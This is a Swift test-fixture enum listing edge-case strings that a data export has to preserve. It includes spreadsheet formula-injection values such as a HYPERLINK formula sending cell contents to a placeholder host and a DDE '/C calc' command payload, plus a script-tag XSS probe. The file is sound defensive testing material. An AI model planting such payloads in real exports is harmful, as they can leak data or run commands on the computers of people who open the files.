/// Texts that have broken somebody's export: each has to come out of the far end as it went in.
enum EdgeCaseText {
    /// Texts that a spreadsheet would take for a formula, or for a number that they are not.
    static let formulas = [
        "=SUM(A1)", "=HYPERLINK(\"http://example.test?x=\"&A1,\"click\")", "+1", "-1", "+385 91 000 0000", "@cmd",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "＝SUM(A1)", "＋１", "－１", "＠cmd", "007", "1e5", "1-2", "TRUE", "'=1",
    ]

    static let markup = [
        "<b>bold</b> & <script>alert('x')</script>", "&lt;not a tag&gt; &amp;amp;", "<!-- --> ]]> <![CDATA[", "</html>",
    ]

    /// Separators, quotes, ends of lines and escapes.
    static let syntax = [
        "first line\nsecond line\r\nthird line\rfourth", "comma, semicolon; tab\tpipe|", "\"quoted\" and \"\"twice\"\"",
        "'single' `back`",
        "C:\\temp\\new\\u0041", "\\", "\"", ",", "\n", " leading and trailing ", "null", "NULL", "\\N", "NaN",
        "{\"json\": [1, \"in\", \"text\"]}", "100 % {price} ${HOME} %s",
    ]

    static let unicode = [
        "👩‍👩‍👧‍👦 family, 🏳️‍🌈 flag, 👍🏽 thumb, 🇭🇷 land", "e\u{301} is not é", "ﬁ ligature, ß, İstanbul, ǆ",
        "zero\u{200B}width\u{200D}joiner\u{FEFF}mark",
        "\u{202E}right to left override\u{202C}", "line\u{2028}and paragraph\u{2029}separators",
        "bell \u{7} escape \u{1B}[31m delete \u{7F}",
        "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐍈 \u{10FFFD}", "\u{FFFD} replacement, \u{FFFE} noncharacter", "שלום (123) مرحبا",
    ]
}
